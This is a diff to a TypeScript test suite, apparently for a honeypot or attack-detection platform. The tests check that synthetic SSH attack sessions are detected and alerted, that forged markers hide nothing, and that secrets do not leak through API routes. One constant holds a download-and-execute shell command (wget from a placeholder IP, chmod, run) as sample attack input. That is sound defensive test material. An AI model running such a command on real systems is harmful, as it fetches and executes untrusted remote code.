@@ -52,7 +52,10 @@ interface Sent {
 }
 
 const CONNECT = { event_type: 'connect', protocol: 'ssh' }
-const ATTACK = { event_type: 'command', command: 'cd /tmp && wget http://192.0.2.66/x -O .x && chmod 777 .x && ./.x' }
+const ATTACK = {
+  event_type: 'command',
+  command: 'cd /tmp && wget http://192.0.2.66/x -O .x && chmod 777 .x && ./.x',
+}
 
 describe.each(inject('postgresServers'))('synthetic attacks on $version', { timeout: 60_000 }, (server) => {
   const open: TestPlatform[] = []
@@ -74,7 +77,8 @@ describe.each(inject('postgresServers'))('synthetic attacks on $version', { time
   type Started = Awaited<ReturnType<typeof started>>
 
   const runsOf = async ({ platform, admin }: Started) =>
-    ((await (await platform.call('/synthetic/runs', { as: admin })).json()) as { items: SyntheticRun[] }).items
+    ((await (await platform.call('/synthetic/runs', { as: admin })).json()) as { items: SyntheticRun[] })
+      .items
   const statusOf = async ({ platform, admin }: Started) =>
     (await (await platform.call('/synthetic/status', { as: admin })).json()) as SyntheticStatus
   const ignored = async (of: Started, reason: SyntheticMarker['reason']) =>
@@ -105,7 +109,11 @@ describe.each(inject('postgresServers'))('synthetic attacks on $version', { time
   }
 
   /** Sends a part of a session. */
-  async function send({ platform }: Started, { session, marker, sensor_id = SENSOR, source_ip = SOURCE }: Sent, part: object) {
+  async function send(
+    { platform }: Started,
+    { session, marker, sensor_id = SENSOR, source_ip = SOURCE }: Sent,
+    part: object,
+  ) {
     const answer = await platform.send(
       JSON.stringify({
         source_ip,
@@ -122,9 +130,10 @@ describe.each(inject('postgresServers'))('synthetic attacks on $version', { time
   const login = { event_type: 'login_attempt', outcome: 'success', username: 'root', protocol: 'ssh' }
   /** A whole session: it begins, then comes the marker, then the attack. */
   async function sendSession(to: Started, sent: Sent): Promise<string> {
-    const { session_id } = await send(to, { ...sent, marker: undefined } as Sent, CONNECT)
+    const { marker: _, ...unmarked } = sent
+    const { session_id } = await send(to, unmarked, CONNECT)
     await send(to, sent, login)
-    await send(to, { ...sent, marker: undefined } as Sent, ATTACK)
+    await send(to, unmarked, ATTACK)
     return session_id
   }
   /** The first event of a session is kept apart once the process knows of the attack: what it does not know of is an attacker's. */
@@ -150,10 +159,17 @@ describe.each(inject('postgresServers'))('synthetic attacks on $version', { time
     })
     for (const run of runs) {
       expect(run).toMatchObject({ outcome: 'detected', failure: null })
-      const { attacked_at, received_at, scored_at, durable_at, alerted_at, delivered_at, acknowledged_at } = run
-      expect([attacked_at, received_at, scored_at, durable_at, alerted_at, delivered_at, acknowledged_at]).not.toContain(
-        null,
-      )
+      const { attacked_at, received_at, scored_at, durable_at, alerted_at, delivered_at, acknowledged_at } =
+        run
+      expect([
+        attacked_at,
+        received_at,
+        scored_at,
+        durable_at,
+        alerted_at,
+        delivered_at,
+        acknowledged_at,
+      ]).not.toContain(null)
     }
     const status = await statusOf(own)
     expect(status).toMatchObject({ on: true, paused_because: null, ignored_markers: [] })
@@ -174,7 +190,11 @@ describe.each(inject('postgresServers'))('synthetic attacks on $version', { time
   })
 
   /** Asks every GET route for everything it has, and says which answers have any of the texts. */
-  async function leaks({ platform, admin }: Started, secrets: readonly string[], runs: readonly SyntheticRun[]) {
+  async function leaks(
+    { platform, admin }: Started,
+    secrets: readonly string[],
+    runs: readonly SyntheticRun[],
+  ) {
     const description = (await (await platform.call('/openapi.json', { as: admin })).json()) as {
       paths: Record<string, Record<string, { parameters?: Array<{ name: string; in: string }> }>>
     }
@@ -229,7 +249,9 @@ describe.each(inject('postgresServers'))('synthetic attacks on $version', { time
     await until(async () => (await own.rows('SELECT FROM synthetic_alerts')).length === 1)
     expect(await own.rows('SELECT FROM alerts')).toEqual([])
     // Everything else that was kept apart while the attack was expected is an attacker's, and is given back at once.
-    await until(async () => (await own.rows('SELECT FROM synthetic_sessions WHERE id <> $1', [session])).length === 0)
+    await until(
+      async () => (await own.rows('SELECT FROM synthetic_sessions WHERE id <> $1', [session])).length === 0,
+    )
   })
 
   test('a forged marker hides nothing: when the time of the attack is over the session is an attacker’s, with its alert', async () => {
@@ -238,12 +260,20 @@ describe.each(inject('postgresServers'))('synthetic attacks on $version', { time
     await isKnown(own, id)
     const session = await sendSession(own, { session: 'forger', marker: `evtw${'a'.repeat(32)}` })
     await until(() => isStored(own, session))
-    await until(async () => (await own.rows('SELECT FROM alerts WHERE session_id = $1', [session])).length > 0)
+    await until(
+      async () => (await own.rows('SELECT FROM alerts WHERE session_id = $1', [session])).length > 0,
+    )
     await until(async () => !(await isHeld(own, session)))
-    expect(await ignored(own, 'unknown')).toMatchObject({ session_id: session, source_ip: SOURCE, sensor_id: SENSOR })
+    expect(await ignored(own, 'unknown')).toMatchObject({
+      session_id: session,
+      source_ip: SOURCE,
+      sensor_id: SENSOR,
+    })
     const [row] = await own.rows('SELECT event_count, command_count FROM sessions WHERE id = $1', [session])
     expect(row).toEqual({ event_count: 3, command_count: 1 })
-    expect((await own.rows('SELECT session_count FROM sensors WHERE sensor_id = $1', [SENSOR]))[0].session_count).toBeDefined()
+    expect(
+      (await own.rows('SELECT session_count FROM sensors WHERE sensor_id = $1', [SENSOR]))[0].session_count,
+    ).toBeDefined()
   })
 
   test.each([
@@ -257,7 +287,9 @@ describe.each(inject('postgresServers'))('synthetic attacks on $version', { time
     await isKnown(own, id)
     if (how === 'replayed') await sendSession(own, { session: 'ours', marker })
     if (how === 'late')
-      await until(async () => (await own.rows(`SELECT FROM synthetic_runs WHERE state = 'failed'`)).length === 1)
+      await until(
+        async () => (await own.rows(`SELECT FROM synthetic_runs WHERE state = 'failed'`)).length === 1,
+      )
     const session = await sendSession(own, {
       session: 'attacker',
       marker,
@@ -265,7 +297,9 @@ describe.each(inject('postgresServers'))('synthetic attacks on $version', { time
       ...(how === 'of another address' && { source_ip: '198.51.100.78' }),
     })
     await until(() => isStored(own, session))
-    await until(async () => (await own.rows('SELECT FROM alerts WHERE session_id = $1', [session])).length > 0)
+    await until(
+      async () => (await own.rows('SELECT FROM alerts WHERE session_id = $1', [session])).length > 0,
+    )
     expect(await ignored(own, reason)).toMatchObject({ session_id: session })
     expect(await isHeld(own, session)).toBe(false)
   })
@@ -277,7 +311,9 @@ describe.each(inject('postgresServers'))('synthetic attacks on $version', { time
     await isKnown(first, id)
     await isKnown(second, id)
     const sessions = await Promise.all(
-      [first, second].map((replica, n) => send(replica, { session: `race ${n}`, marker }, { ...login, ...ATTACK })),
+      [first, second].map((replica, n) =>
+        send(replica, { session: `race ${n}`, marker }, { ...login, ...ATTACK }),
+      ),
     )
     const ids = sessions.map(({ session_id }) => session_id)
     await until(async () => {
@@ -314,9 +350,9 @@ describe.each(inject('postgresServers'))('synthetic attacks on $version', { time
     expect(await sendRecord()).toMatchObject({ accepted: 0, duplicates: 1 })
     await until(async () => (await own.rows('SELECT FROM synthetic_events')).length === 0)
     expect(await sendRecord()).toMatchObject({ accepted: 0, duplicates: 1 })
-    expect(await own.rows(`SELECT event_count FROM sessions WHERE 'command' <> '' AND command_count = 1`)).toEqual([
-      { event_count: 1 },
-    ])
+    expect(
+      await own.rows(`SELECT event_count FROM sessions WHERE 'command' <> '' AND command_count = 1`),
+    ).toEqual([{ event_count: 1 }])
   })
 
   test('attackers on the same sensor from elsewhere, and on other sensors, are stored while an attack is expected', async () => {
